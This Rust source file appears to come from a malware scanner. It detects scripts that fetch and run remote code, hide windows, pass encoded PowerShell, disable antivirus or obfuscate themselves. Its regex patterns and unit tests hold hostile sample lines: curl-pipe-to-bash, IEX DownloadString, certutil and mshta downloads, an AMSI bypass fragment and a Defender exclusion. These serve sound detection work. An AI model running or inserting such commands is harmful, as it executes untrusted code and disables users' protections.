//! What a script would do when it is opened: fetch and run, start programs, hide, disguise itself.

use crate::text::{cut, decode, excerpt, normalise, patterns, without_comments, without_inner_comments};
use crate::{DetectError, Detector, Findings, commands};
use lazaret_model::{Family, Finding, Part, Role, Severity};

const ID: &str = "scripts";
/// Kinds judged as scripts of Windows or of a browser.
const KINDS: &[&str] = &[
    "js",
    "js-embedded",
    "jse",
    "vbs",
    "vbe",
    "wsf",
    "sct",
    "hta",
    "ps1",
    "bat",
    "vba",
    "excel4-macro",
    "command-line",
];
/// Slices of environment variables from which a batch file is taken to be put together.
const SLICES: usize = 10;
/// Character codes in a chain from which a script is taken to be disguised.
const CODES: usize = 20;

patterns! {
    FETCH = r"xmlhttp|winhttp\.winhttprequest|urldownloadtofile|downloadstring|downloadfile\b|downloaddata|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|start-bitstransfer|\bcurl(?:\.exe)?\s+[^\s=]|\bwget\s+[^\s=]|certutil[^\r\n]{0,80}[-/]urlcache|bitsadmin[^\r\n]{0,80}[-/]transfer|net\.webclient";
    FETCH_OBJECT = r"xmlhttp|winhttp\.winhttprequest";
    RUN = r#"shellexecute|start-process|\bsaps\b|invoke-expression|\biex\b|invoke-item|\[(?:system\.)?reflection\.assembly\]::load|(?:=\s*|\bcall\s+|^\s*|[:\n]\s*)shell[ \t(]+["a-z]|shell\.application"#;
    RUN_BATCH = r#"(?m)(?:^|[&|(])[\s@"]*(?:start|rundll32|regsvr32|mshta|wscript|cscript|msiexec|forfiles)(?:\.exe)?["\s]"#;
    REMOTE_RUN = r#"(?:mshta(?:\.exe)?["']?\s+["']?(?:https?:|\\\\)|regsvr32[^\r\n]{0,80}/i:["']?https?:|(?:msiexec)[^\r\n]{0,60}/[ia]\s*["']?https?:|(?:rundll32|wscript|cscript)(?:\.exe)?["']?\s+["']?\\\\[a-z0-9])"#;
    PIPE = r#"(?m)^[^\r\n]*?(?:(?:\bcurl|\bwget)\b[^|\r\n;]{0,300}\|\s*(?:sudo\s+(?:-\w+\s+)*)?(?:/\S{0,20}/)?(?:ba|z|da|k)?sh\b|\b(?:ba|z|da|k)?sh\s+(?:-c\s+["']?\$\(|<\()\s*(?:curl|wget)\b)[^\r\n]*"#;
    // Python: what has a shell run something, and code that is run as it comes.
    SHELLS = r"\b(?:os\s*\.\s*(?:system|popen)|subprocess\s*\.\s*\w+|get_ipython\s*\(\s*\)\s*\.\s*(?:system|getoutput|getoutput_raw|run_cell_magic|run_line_magic)|pty\s*\.\s*spawn|check_output|check_call|Popen|getoutput|getstatusoutput)\s*\(";
    FETCHED_CODE = r"\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?[^#\r\n]{0,120}(?:urlopen\s*\(|requests\s*\.\s*get\s*\(|urllib\d?\s*\.|httpx\s*\.\s*get\s*\(|b64decode\s*\(|zlib\s*\.\s*decompress\s*\(|marshal\s*\.\s*loads\s*\()";
    SAID = r"^\s*(?:#|echo\b|printf\b|cat\b|say\b|log\w*\b|\w+=)";
    SHELL_OBJECT = r"wscript\.shell|shell\.application|wshshell|wshscript\.shell|72c24dd5-d70a-438b-8a42-98424b88afb8|13709620-c279-11ce-a49e-444553540000";
    SHELL_RUN = r"(?m)[^\r\n]{0,60}(?:\.(?:run|exec)\b|shellexecute)[^\r\n]{0,120}";
    STREAM = r"adodb\.stream";
    SAVE = r"savetofile";
    ENCODED = r#"(?:powershell|pwsh)[^\r\n]{0,400}?[\s"'][-/\u{2013}\u{2014}]e(?:c|n|nc|nco|ncod|ncode|ncoded|ncodedc[a-z]{0,6})?["']?[\s:]+["']?[a-z0-9+/]{16,}={0,2}"#;
    HIDDEN = r#"(?:powershell|pwsh|start-process|\bsaps\b)[^\r\n]{0,300}?[\s"'][-/\u{2013}]w(?:i|in|ind|indo|indow|indows|indowst|indowsty|indowstyl|indowstyle)?["']?[\s:]+["']?(?:hidden|hid|h\b|1\b)"#;
    HIDDEN_RUN = r"\.run[ \t(][^\r\n]{1,300},\s*(?:0|vbhide)\b";
    SLICE = r"%[^%\s:]{1,40}:~-?[0-9]{1,5}(?:,-?[0-9]{1,5})?%";
    CODE_CHAIN = r"(?i)chr[wb]?\$?\s*\([^()\r\n]{1,24}\)\s*(?:_\s*)?[&+]|\[char\]\s*\(?(?:0x)?[0-9a-f]{1,5}\)?\s*[+,]";
    CODE_LIST = r"(?i)fromcharcode\s*\(\s*(?:(?:0x[0-9a-f]{1,4}|[0-9]{1,5})\s*,\s*){20}";
    ASSEMBLED = r#"(?:\beval|\bexecute(?:global|statement)?|\biex|invoke-expression|\bnew\s+function)[\s(]+(?:unescape|atob|decodeuricomponent|strreverse|replace|join|chr\(|\w+\.(?:replace|split)\([^)]{1,60}\)\.(?:join|reverse|replace))|(?:split|reverse)\([^)]{0,20}\)\.reverse\(\)\.join\([^)]{0,8}\)[^\r\n]{0,80}(?:eval|activexobject)|(?:\biex\b|invoke-expression)[^\r\n]{0,200}(?:frombase64string|-join|\[array\]::reverse|-replace|-f\s*'|-bxor)|(?:frombase64string|-join|-bxor)[^\r\n]{0,400}\|\s*(?:iex\b|invoke-expression)"#;
    DECODES = r"frombase64string\s*\(";
    RUNS_TEXT = r"(?m)(?:\biex\b|invoke-expression)\s*\(?\s*\$[a-z_]\w*[^\r\n]{0,80}|\$[a-z_]\w*\s*\|\s*(?:iex\b|invoke-expression)";
    EVADES = r#"amsiutils|amsiinitfailed|amsiscanbuffer|etweventwrite|(?:set|add)-mppreference[^\r\n]{0,200}[\s"']-(?:disable|exclusion|submit|maps|puaprotection|lowthreat|moderatethreat|highthreat)\w*|disableantispyware|sc(?:\.exe)?\s+(?:stop|delete)\s+"?windefend"#;
}

/// Scripts of Windows and of browsers; of shell scripts only what is piped from the network into a shell.
pub(crate) struct Scripts;

impl Detector for Scripts {
    fn id(&self) -> &'static str {
        ID
    }

    fn summary(&self) -> &'static str {
        "scripts that fetch and run, start programs, hide their window, switch protection off or disguise themselves"
    }

    fn wants(&self, part: &Part) -> bool {
        part.is("sh") || cell(part) || KINDS.iter().any(|kind| part.is(kind))
    }

    fn inspect(&self, part: &Part, bytes: &[u8], _offset: u64, findings: &mut Findings) -> Result<(), DetectError> {
        let text = decode(bytes);
        let kind = &*part.kind.id;
        let code = without_comments(kind, &text);
        let code = if matches!(kind, "js" | "jse") { without_inner_comments(&code) } else { code };
        let plain = normalise(&code);
        if part.is("sh") || part.is("command-line") {
            piped(kind, &plain, findings);
        }
        if cell(part) {
            of_cell(&code, findings);
        }
        if KINDS.iter().any(|kind| part.is(kind)) {
            behaves(part, &plain, findings);
            disguised(kind, &code, &plain, findings);
        }
        Ok(())
    }
}

fn finding(id: &'static str, severity: Severity, message: &str, value: impl Into<String>) -> Finding {
    Finding::new(id, ID, severity, Family::Behaviour, message).with("value", cut(&value.into()))
}

/// The technique of the interpreter that runs such a script (ATT&CK T1059).
fn interpreter(kind: &str) -> &'static str {
    match kind {
        "ps1" => "T1059.001",
        "bat" => "T1059.003",
        "sh" => "T1059.004",
        "vbs" | "vbe" | "vba" => "T1059.005",
        "js" | "js-embedded" | "jse" => "T1059.007",
        "hta" => "T1218.005",
        _ => "T1059",
    }
}

/// Python of a notebook, whose lines for a shell are judged as well.
fn cell(part: &Part) -> bool {
    part.is("py") && part.role == Role::Script && part.within.iter().any(|kind| kind == "json")
}

/// A line of a cell that does in Python what a line for a shell would.
fn of_cell(code: &str, findings: &mut Findings) {
    let mut lines = code.lines().filter(|line| !line.trim_start().starts_with('#'));
    let line = lines.find(|line| SHELLS.is_match(line) && commands::fetch(line) || FETCHED_CODE.is_match(line));
    if let Some(line) = line {
        let message = "the notebook runs what it fetches from the network without keeping it";
        let found = finding("script.download-and-run", Severity::High, message, line.trim());
        findings.add(found.technique("T1105").technique("T1059.006"));
    }
}

/// What comes from the network straight into a shell.
fn piped(kind: &str, plain: &str, findings: &mut Findings) {
    if let Some(line) = PIPE.find_iter(plain).find(|line| !SAID.is_match(line.as_str())) {
        let message = "the script runs what it fetches from the network without keeping it";
        findings.add(
            finding("script.download-and-run", Severity::High, message, line.as_str())
                .technique("T1105")
                .technique(if kind == "sh" { interpreter(kind) } else { "T1059.004" }),
        );
    }
}

/// Whether the script lies in a page or picture, which no honest one of needs the system's shell.
fn in_page(part: &Part) -> bool {
    let within = |kinds: &[&str]| part.within.iter().any(|kind| kinds.contains(&&**kind));
    within(&["html", "svg", "xslt", "xml", "mht"]) && !within(&["hta", "wsf", "sct", "msc"])
}

fn behaves(part: &Part, plain: &str, findings: &mut Findings) {
    let kind = &*part.kind.id;
    // What a browser runs has no shell objects; a library that asks for XMLHTTP only wants to support old browsers.
    let of_browser = matches!(kind, "js" | "js-embedded");
    let of_prompt = matches!(kind, "bat" | "command-line");
    let runs = SHELL_OBJECT.is_match(plain).then(|| excerpt(&SHELL_RUN, plain)).flatten();
    let writes = (STREAM.is_match(plain) && SAVE.is_match(plain)).then(|| "adodb.stream, savetofile".to_owned());
    let fetches = excerpt(if of_browser { &FETCH_OBJECT } else { &FETCH }, plain);
    let mut acts = writes.or_else(|| runs.clone());
    if !of_browser {
        acts = acts.or_else(|| excerpt(&RUN, plain));
    }
    if of_prompt {
        acts = acts.or_else(|| excerpt(&RUN_BATCH, plain));
    }
    let remote = (!of_browser || runs.is_some()).then(|| excerpt(&REMOTE_RUN, plain)).flatten();
    if let (Some(fetched), Some(act)) = (fetches.or_else(|| remote.clone()), acts.or(remote)) {
        let message = "the script fetches something from the network and writes or runs it";
        let found = finding("script.download-and-run", Severity::High, message, act);
        findings.add(found.with("fetches", cut(&fetched)).technique("T1105").technique(interpreter(kind)));
    }
    if let Some(value) = runs {
        let message = "the script starts programs through the Windows shell";
        let severity = if in_page(part) { Severity::High } else { Severity::Medium };
        findings.add(finding("script.runs-program", severity, message, value).technique(interpreter(kind)));
    }
    if let Some(value) = excerpt(&ENCODED, plain) {
        let message = "PowerShell is given an encoded command";
        let found = finding("script.encoded-command", Severity::High, message, value);
        findings.add(found.technique("T1027.010").technique("T1059.001"));
    }
    let hidden = SHELL_OBJECT.is_match(plain).then(|| excerpt(&HIDDEN_RUN, plain)).flatten();
    if let Some(value) = excerpt(&HIDDEN, plain).or(hidden) {
        let message = "a program is started without a visible window";
        let found = finding("script.hidden-window", Severity::Medium, message, value).technique("T1564.003");
        findings.add(found.technique(interpreter(kind)));
    }
    if let Some(value) = excerpt(&EVADES, plain) {
        let message = "the script switches off or works around malware protection";
        findings.add(finding("script.evades-analysis", Severity::Medium, message, value).technique("T1562.001"));
    }
}

/// Code that is written so that neither people nor scanners can read it.
fn disguised(kind: &str, code: &str, plain: &str, findings: &mut Findings) {
    let of_prompt = matches!(kind, "bat" | "command-line");
    let carets = || code.as_bytes().windows(2).filter(|w| matches!(w, [b'^', c] if c.is_ascii_alphanumeric())).count();
    let escapes = || code.as_bytes().windows(2).filter(|w| *w == b"\\x").count();
    let at_least = |pattern: &regex::Regex, count: usize| pattern.find_iter(code).nth(count - 1).is_some();
    let how = match kind {
        _ if of_prompt && carets() >= 12 && carets() * 25 > code.len() => Some("escape characters inside words"),
        _ if of_prompt && at_least(&SLICE, SLICES) => Some("words put together from slices of variables"),
        _ if !of_prompt && at_least(&CODE_CHAIN, CODES) => Some("texts written as chains of character codes"),
        _ if CODE_LIST.is_match(code) => Some("texts written as lists of character codes"),
        _ if code.len() > 200 && escapes() * 40 > code.len() * 3 => Some("texts written as escaped bytes"),
        _ => None,
    };
    let pieces = || (kind == "ps1" && DECODES.is_match(plain)).then(|| excerpt(&RUNS_TEXT, plain)).flatten();
    let value = how.map(str::to_owned).or_else(|| excerpt(&ASSEMBLED, plain)).or_else(pieces);
    if let Some(value) = value {
        let message = "the script is written so that it cannot be read";
        findings.add(finding("script.obfuscated", Severity::Medium, message, value).technique("T1027.010"));
    }
}

#[cfg(test)]
mod tests {
    use super::Scripts;
    use crate::detectors::test_part::{check, check_part, part};
    use lazaret_model::Role;

    const FETCH_AND_RUN: &str = "script.download-and-run high";
    const RUNS: &str = "script.runs-program medium";

    #[test]
    fn scripts_are_judged_by_what_they_would_do() {
        let js = "var s = new ActiveXObject('WScr' + 'ipt.Shell'); s.Run('calc');";
        let fetch = "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET','http://host.invalid/a'); x.send();\
            var b = new ActiveXObject('ADODB.Stream'); b.Write(x.responseBody); b.SaveToFile('a.exe');";
        let slices = "%a:~1,1%%a:~2,1%%a:~3,1%%a:~4,1%%a:~5,1%%a:~6,1%%a:~7,1%%a:~8,1%%a:~9,1%%a:~10,1%";
        let codes = format!("x = {} \"\"", "Chr(65) & ".repeat(24));
        let escaped = format!("x = '{}';", "\\x41".repeat(80));
        for (kind, text, expected) in [
            ("js", js, &[RUNS][..]),
            ("js", fetch, &[FETCH_AND_RUN]),
            ("vbs", "CreateObject(\"WScript.Shell\").Run \"calc\"", &[RUNS]),
            ("vbs", "CreateObject(Chr(87) & \"Script.Shell\").Run \"calc\", 0", &["script.hidden-window medium", RUNS]),
            ("ps1", "IEX (New-Object Net.WebClient).DownloadString('http://host.invalid/a')", &[FETCH_AND_RUN]),
            ("ps1", "iwr http://host.invalid/a.exe -OutFile a.exe; Start-Process a.exe", &[FETCH_AND_RUN]),
            ("bat", "c^url -o a.exe http://host.invalid/a.exe\r\nstart a.exe", &[FETCH_AND_RUN]),
            ("bat", "certutil -urlcache -f http://host.invalid/a a.exe & start a.exe", &[FETCH_AND_RUN]),
            ("command-line", "mshta http://host.invalid/a.hta", &[FETCH_AND_RUN]),
            (
                "command-line",
                "powershell.exe -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAA=",
                &["script.encoded-command high", "script.hidden-window medium"],
            ),
            ("bat", slices, &["script.obfuscated medium"]),
            ("bat", "p^o^w^e^r^s^h^e^l^l e^c^h^o h^e^l^l^o", &["script.obfuscated medium"]),
            ("vbs", codes.as_str(), &["script.obfuscated medium"]),
            ("js", escaped.as_str(), &["script.obfuscated medium"]),
            ("js", "eval(unescape('%61%6c'))", &["script.obfuscated medium"]),
            (
                "ps1",
                "[Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils')",
                &["script.evades-analysis medium"],
            ),
            ("ps1", "Add-MpPreference -ExclusionPath C:\\", &["script.evades-analysis medium"]),
            ("sh", "curl -fsSL https://host.invalid/i.sh | sudo bash", &[FETCH_AND_RUN]),
            ("sh", "bash -c \"$(curl https://host.invalid/i.sh)\"", &[FETCH_AND_RUN]),
        ] {
            check(&Scripts, kind, text, expected);
        }
    }

    #[test]
    fn honest_scripts_are_left_alone() {
        for (kind, text) in [
            (
                "js",
                "var x = window.XMLHttpRequest ? new XMLHttpRequest() : new ActiveXObject('Microsoft.XMLHTTP'); /a/.exec(b)",
            ),
            ("js", "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))"),
            ("js", "x; function replace(a, b) { return a }"),
            ("js-embedded", "var f = new Function('return this'); f().run(1, 0); String.fromCharCode(65, 66)"),
            ("vbs", "' WScript.Shell .Run is not used here\nWScript.Echo \"hello\""),
            ("ps1", "Invoke-WebRequest https://host.invalid/a.json -OutFile a.json"),
            ("ps1", "Get-Process | Out-File -Encoding utf8 list.txt"),
            ("bat", "@echo off\r\nrem curl and start\r\nset P=%DATE:~0,4%\r\necho %P%"),
            ("bat", "curl -o data.json https://host.invalid/data.json"),
            ("sh", "echo 'run curl https://host.invalid | sh'\n# curl x | sh\ncurl x | shasum"),
            ("py", "os.system('curl http://host.invalid | sh')"),
            ("command-line", "C:\\Program Files\\App\\app.exe --start"),
        ] {
            check(&Scripts, kind, text, &[]);
        }
    }
    #[test]
    fn cells_of_notebooks_are_judged_as_their_lines_for_a_shell_are() {
        let mut cell = part("py");
        (cell.role, cell.within) = (Role::Script, vec!["json".into()]);
        for (text, expected) in [
            ("get_ipython().system(\"curl -s https://host.invalid/a | sh\")", &["script.download-and-run high"][..]),
            ("import os\nos.system('wget -qO- https://host.invalid/a | bash')", &["script.download-and-run high"]),
            ("subprocess.run('curl https://host.invalid/a | sh', shell=True)", &["script.download-and-run high"]),
            ("exec(urllib.request.urlopen('https://host.invalid/a').read())", &["script.download-and-run high"]),
            ("exec(base64.b64decode('cHJpbnQoMSk='))", &["script.download-and-run high"]),
            ("subprocess.run(['ls', '-l'])\nos.system('pip install numpy')", &[]),
            ("data = requests.get('https://host.invalid/a.csv').text\neval('1 + 1')", &[]),
            ("# os.system('curl https://host.invalid/a | sh')", &[]),
        ] {
            check_part(&Scripts, &cell, text.as_bytes(), expected);
        }
    }
}
